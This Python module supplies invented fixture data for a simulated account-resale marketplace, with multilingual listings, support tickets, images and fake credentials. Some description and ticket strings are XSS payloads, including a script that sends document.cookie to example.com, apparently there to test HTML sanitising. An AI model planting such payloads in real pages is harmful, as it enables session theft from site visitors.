"""What the simulator is stocked with: categories, products, buyers' words in several languages. Invented."""

from __future__ import annotations

import hashlib
import struct
import zlib
from random import Random

# Parent category → its leaves; a parent without leaves is a leaf itself.
CATEGORIES: dict[str, tuple[str, ...]] = {
    "Social": ("Facebook", "Instagram", "TikTok", "VKontakte"),
    "E-mail": ("Gmail", "Outlook", "Яндекс Почта"),
    "Games": ("Steam", "原神 Genshin", "Roblox"),
    "Streaming": ("Música", "Films"),
    "Software keys": (),
    "بطاقات الهدايا": (),
}

TITLES = (
    "Facebook 2019 aged account",
    "Gmail 2021, phone verified",
    "Instagram 5k followers – café niche ☕",
    "Аккаунт VK с друзьями, 2015 год",
    "原神 国际服 60级 五星角色",
    "Steam Konto, über 100 Spiele",
    "حساب تيك توك موثق",
    "Outlook mailbox, IMAP on",
    "Clé d’activation Office 2024 Élite",
    "TikTok creator account 🎬",
    "Roblox 400 Robux",
    "Яндекс Почта, 10 шт.",
    "礼品卡 50 元 自动发货",
    "بطاقة هدايا ٢٥ دولار",
    "Premium música 12 meses",
    "Film pass — 30 days",
)

DESCRIPTIONS = (
    "<p>Aged account with <b>cookies</b> and recovery e-mail.</p><ul><li>Warranty: see below</li></ul>",
    "<p>Проверено вручную. Смените пароль <i>сразу</i>.</p>",
    "<p>自动发货，请在 24 小时内修改密码。</p>",
    '<p onclick="alert(1)">Includes 2FA codes</p><script>alert("x")</script>',
    '<p>تسليم فوري</p><img src="https://example.com/pixel.gif" onerror="alert(1)">',
    "Plain text: login & password < 24 h old",
    '<table style="position:fixed"><tr><td>Région</td><td>Zürich</td></tr></table>',
)

TICKET_TITLES = (
    "Password does not work",
    "Не приходит код подтверждения",
    "账号被封了，怎么办？",
    "الحساب مغلق",
    "Où est ma commande ? 😟",
    "Two of five logins are dead",
)

TICKET_TEXTS = (
    "<p>I tried three times. <b>Please replace it.</b></p>",
    "<p>Код на почту не приходит уже час.</p>",
    "<p>刚登录就被封，请尽快处理。</p>",
    "<p>لا أستطيع تسجيل الدخول</p><script>document.location='https://example.com/?'+document.cookie</script>",
    '<a href="javascript:alert(1)">screenshot</a> voilà',
    "",
)

TAGS = ("aged", "pva", "auto-delivery", "热卖", "новинка")


def hex_id(random: Random) -> str:
    """An id as the platform's database makes them: 24 hexadecimal digits."""
    return f"{random.getrandbits(96):024x}"


def image_path(content: bytes) -> str:
    """The path of a stored image: named by its content."""
    return f"/media/product_images/{hashlib.sha256(content).hexdigest()}.webp"


def image_type(content: bytes) -> str | None:
    """The type that an image's first bytes tell; ``None`` for what is no image."""
    if content.startswith(b"\x89PNG\r\n\x1a\n"):
        return "image/png"
    if content.startswith(b"\xff\xd8\xff"):
        return "image/jpeg"
    if content.startswith((b"GIF87a", b"GIF89a")):
        return "image/gif"
    return "image/webp" if content[:4] == b"RIFF" and content[8:12] == b"WEBP" else None


def picture(random: Random) -> bytes:
    """A small PNG in one colour."""
    row = b"\x00" + bytes(random.randrange(60, 240) for _ in range(3)) * 48

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 48, 48, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(row * 48)) + chunk(b"IEND", b"")


def account(random: Random) -> tuple[str, str]:
    """A username and a password; some passwords hold the delimiters."""
    name = random.choice(("olga", "chen.wei", "amira", "jose", "lena_k", "max"))
    secret = "".join(random.choice("abcdefghkmnpqrstuvwxyz23456789:|#") for _ in range(12))
    return f"{name}{random.randrange(10**6)}@mail.example", f"p{secret}"
